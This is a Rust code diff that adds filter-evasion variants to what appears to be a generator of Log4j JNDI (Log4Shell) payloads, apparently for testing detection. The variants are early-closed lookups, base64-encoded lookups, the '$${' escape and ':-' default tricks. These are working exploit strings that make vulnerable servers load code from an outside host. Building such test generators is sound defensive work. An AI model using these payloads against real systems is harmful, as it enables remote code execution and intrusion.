@@ -52,8 +52,27 @@ impl Family for Jndi {
         let proto = spell(rng, protocol, share, &mut kinds_used);
         let slashes = if share > 0.0 && rng.chance(0.2) { format!("{}{}", lookup(rng, '/', &mut kinds_used), lookup(rng, '/', &mut kinds_used)) } else { "//".to_string() };
         names.extend(kinds_used.iter().copied().take(3));
-        let mut payload = format!("${{{jndi}{colon}{proto}:{slashes}{host}/{path}}}");
-        if rng.chance(0.2) {
+        let mut payload = match rng.below(10) {
+            // The lookup closed early by a stray brace after the protocol, as published bypass
+            // lists write it (`${${lower:j}ndi:${lower:r}mi}://host/a}`).
+            0 => {
+                names.push("early-close");
+                format!("${{{jndi}{colon}{proto}}}:{slashes}{host}/{path}}}")
+            }
+            // The lookup's name spelled in base64 (`${${base64:am5kaTpsZGFwOi8v...}}`).
+            1 => {
+                names.push("base64");
+                format!("${{${{base64:{}}}}}", base64(format!("jndi:{protocol}://{host}/{path}").as_bytes()))
+            }
+            // `$${`: Log4j's escape, written by attackers hoping a filter skips it.
+            2 => {
+                names.push("dollar-escape");
+                format!("$${{{jndi}{colon}{proto}:{slashes}{host}/{path}}}")
+            }
+            _ => format!("${{{jndi}{colon}{proto}:{slashes}{host}/{path}}}"),
+        };
+        // Base64 text is case-sensitive: a case mix would change what it decodes to.
+        if rng.chance(0.2) && !names.contains(&"base64") {
             payload = case_mix(rng, &payload);
             names.push("case");
         }
@@ -102,7 +121,12 @@ fn spell(rng: &mut Rng, word: &str, share: f64, kinds: &mut Vec<&'static str>) -
 
 /// A Log4j lookup that evaluates to `c`, possibly nested.
 fn lookup(rng: &mut Rng, c: char, kinds: &mut Vec<&'static str>) -> String {
-    let inner = match rng.below(7) {
+    let inner = match rng.below(8) {
+        7 => {
+            note(kinds, "case-default");
+            // Nothing to convert: Log4j reads the `:-` default.
+            format!("${{{}::-{c}}}", rng.pick(&["upper", "lower"]))
+        }
         0 => {
             note(kinds, "lower");
             format!("${{lower:{}}}", c.to_ascii_uppercase())
@@ -135,6 +159,23 @@ fn lookup(rng: &mut Rng, c: char, kinds: &mut Vec<&'static str>) -> String {
         }
     };
     inner
+}
+
+/// Standard base64 with padding.
+fn base64(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk.iter().enumerate().fold(0u32, |acc, (k, &b)| acc | (b as u32) << (16 - 8 * k));
+        for k in 0..4 {
+            if k <= chunk.len() {
+                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
 }
 
 fn note(kinds: &mut Vec<&'static str>, kind: &'static str) {
